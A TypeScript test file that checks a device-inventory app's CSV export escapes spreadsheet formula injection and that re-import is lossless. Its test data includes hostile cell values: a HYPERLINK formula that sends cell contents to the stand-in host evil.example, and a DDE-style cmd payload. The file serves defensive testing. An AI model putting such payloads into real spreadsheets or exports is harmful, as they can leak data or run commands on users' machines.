/**
 * CSV export vs. spreadsheet formula injection: device names arrive from
 * discovered nodes and tailnet hostnames, so a name like `=HYPERLINK(…)` must
 * not reach Excel as a formula (OWASP: prefix such cells with `'`), and the
 * import of that CSV gives back exactly what was exported.
 */
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { escapeCsvCell, unescapeCsvCell } from '../../src/topology/inventory-csv.ts';
import { jsonInit, makeTestRig, type TestRig } from '../helpers/app.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Cam")',
  '@SUM(1)',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '\tTabbed',
  '\r=carriage',
  "'=already escaped",
  "''@twice",
  "'plain apostrophe",
  'Cam = A',
];

let a: TestRig;
let b: TestRig;
beforeEach(() => {
  a = makeTestRig();
  b = makeTestRig();
});
afterEach(() => {
  a.close();
  b.close();
});

describe('CSV export formula cells', () => {
  it('prefixes every formula cell with an apostrophe, and the import round trip is lossless', async () => {
    for (const [i, name] of HOSTILE.entries()) {
      const res = await a.app.request('/api/devices', jsonInit('POST', {
        id: `cam-${i}`, name, role: 'camera', model: HOSTILE[(i + 1) % HOSTILE.length], notes: HOSTILE[(i + 2) % HOSTILE.length],
        addresses: [{ network: 'lan', ip: `127.33.4.${i + 1}` }],
      }));
      expect(res.status, await res.clone().text()).toBe(201);
    }
    const csv = await (await a.app.request('/api/export?format=csv&state=0')).text();
    const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
    const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(dangerous).toEqual([]);
    expect(cells).toContain(`'${HOSTILE[0]}`);
    expect(cells).toContain("''=already escaped");
    expect(cells).toContain("'plain apostrophe");
    expect(cells).toContain('Cam = A');

    const imported = await b.app.request('/api/import?format=csv', { method: 'POST', headers: { 'content-type': 'text/csv' }, body: csv });
    expect(imported.status, await imported.clone().text()).toBe(200);
    const doc = async (r: TestRig) => {
      const j = (await (await r.app.request('/api/export?format=json&state=0')).json()) as { devices: { name: string; model: string; notes: string }[] };
      return j.devices;
    };
    const [before, after] = [await doc(a), await doc(b)];
    expect(after).toEqual(before);
    // Exactly as sent, even the leading tab and CR (an escaped cell is not trimmed).
    expect(after.map((d) => d.name)).toEqual(HOSTILE);
  });

  it('escapes and unescapes one level', () => {
    for (const v of [...HOSTILE, '', "'", "'=", '=', 'normal']) expect(unescapeCsvCell(escapeCsvCell(v))).toBe(v);
    expect(escapeCsvCell('=1')).toBe("'=1");
    expect(escapeCsvCell("'x")).toBe("'x");
  });
});
